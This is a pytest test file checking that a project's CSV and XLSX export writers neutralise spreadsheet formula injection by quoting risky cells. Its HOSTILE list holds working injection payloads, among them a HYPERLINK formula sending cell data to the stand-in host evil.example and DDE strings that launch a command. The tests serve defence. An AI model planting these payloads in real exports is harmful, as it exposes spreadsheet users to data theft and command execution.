"""Output cells are data: no CSV or XLSX cell the project writes can be run as a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from generator.settlement_output import settle
from generator.sheetcells import csv_bytes, csv_cell, neutralise, xlsx_append
from tests.conftest import APPLICATION, INSTITUTION, World
from tests.opendata.helpers import build, read_csv

AS_OF = dt.date(2027, 6, 30)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_a_spreadsheet_would_run_gets_a_quote(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["养老护理员", "P2026-001-01", "0510-82829088", "a=b", " =x", ""])
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert csv_cell(text) == text


def test_numbers_stay_numbers_even_when_negative() -> None:
    assert csv_cell(Decimal("-12.50")) == "-12.50"
    assert csv_cell(-3) == "-3"
    assert csv_cell(Decimal("1E+3")) == "1000"
    assert csv_cell(None) == ""
    assert csv_cell(dt.date(2026, 5, 1)) == "2026-05-01"
    with pytest.raises(TypeError):
        csv_cell(True)


def test_csv_file_round_trips_through_the_csv_reader() -> None:
    data = csv_bytes([["班次", "金额"], ["=1+1", Decimal("-5.00")], ['a,"b"\n=c', 1]])
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows == [["班次", "金额"], ["'=1+1", "-5.00"], ['a,"b"\n=c', "1"]]


def test_xlsx_text_is_a_string_cell_and_numbers_are_numbers(tmp_path: Path) -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    xlsx_append(ws, [*HOSTILE, Decimal("-5.00"), -3, "bell\x07"])
    wb.save(tmp_path / "t.xlsx")
    back = load_workbook(tmp_path / "t.xlsx").active
    assert back is not None
    cells = list(back[1])
    for cell, text in zip(cells, HOSTILE, strict=False):
        assert cell.data_type == "s" and cell.value == "'" + text
    assert [(c.data_type, c.value) for c in cells[len(HOSTILE):len(HOSTILE) + 2]] == [("n", -5), ("n", -3)]
    assert cells[-1].value == "bell\ufffd"


def test_xlsx_rows_of_any_width_land_in_order_with_exactly_their_cells(tmp_path: Path) -> None:
    """The writer makes each row's cells itself (no read-back of the sheet): a short row after a
    wide one, an empty row and a hostile row after them still land one below the other, each
    returned cell is the one written, and the formula stays text."""
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    wide = xlsx_append(ws, ["a", "b", "c", "d"])
    short = xlsx_append(ws, ["e"])
    assert xlsx_append(ws, []) == []
    last = xlsx_append(ws, [HOSTILE[0], Decimal("1.50")])
    assert [c.row for c in wide + short + last] == [1, 1, 1, 1, 2, 4, 4]
    assert [c.column for c in last] == [1, 2] and len(short) == 1
    wb.save(tmp_path / "rows.xlsx")
    back = load_workbook(tmp_path / "rows.xlsx").active
    assert back is not None
    assert [[c.value for c in row] for row in back.iter_rows()] == [
        ["a", "b", "c", "d"], ["e", None, None, None], [None, None, None, None], ["'" + HOSTILE[0], 1.5, None, None],
    ]
    assert back["A4"].data_type == "s"


def _hostile_names(world: World) -> None:
    world.edit(APPLICATION, lambda d: d.__setitem__("project_name", HOSTILE[0]))
    world.edit(INSTITUTION, lambda d: d.__setitem__("name", "@SUM(1+1)*cmd|' /C calc'!A0"))


def test_settlement_csv_and_xlsx_carry_no_formula(world: World, tmp_path: Path) -> None:
    _hostile_names(world)
    files = settle(world.root, AS_OF).files
    (tmp_path / "s.xlsx").write_bytes(files["settlement.xlsx"])
    wb = load_workbook(tmp_path / "s.xlsx")
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                values.append(cell.value)
    assert "'" + HOSTILE[0] in values and "'@SUM(1+1)*cmd|' /C calc'!A0" in values
    rows = list(csv.reader(io.StringIO(files["settlement.csv"].decode("utf-8-sig"), newline="")))
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_open_data_csvs_carry_no_formula(world: World, tmp_path: Path) -> None:
    _hostile_names(world)
    build(world.root, tmp_path / "out")
    projects = read_csv(tmp_path / "out" / "projects.csv")
    assert projects[0]["项目名称"] == "'" + HOSTILE[0]
    for path in (tmp_path / "out").glob("*.csv"):
        for row in read_csv(path):
            for value in row.values():
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (path.name, value)
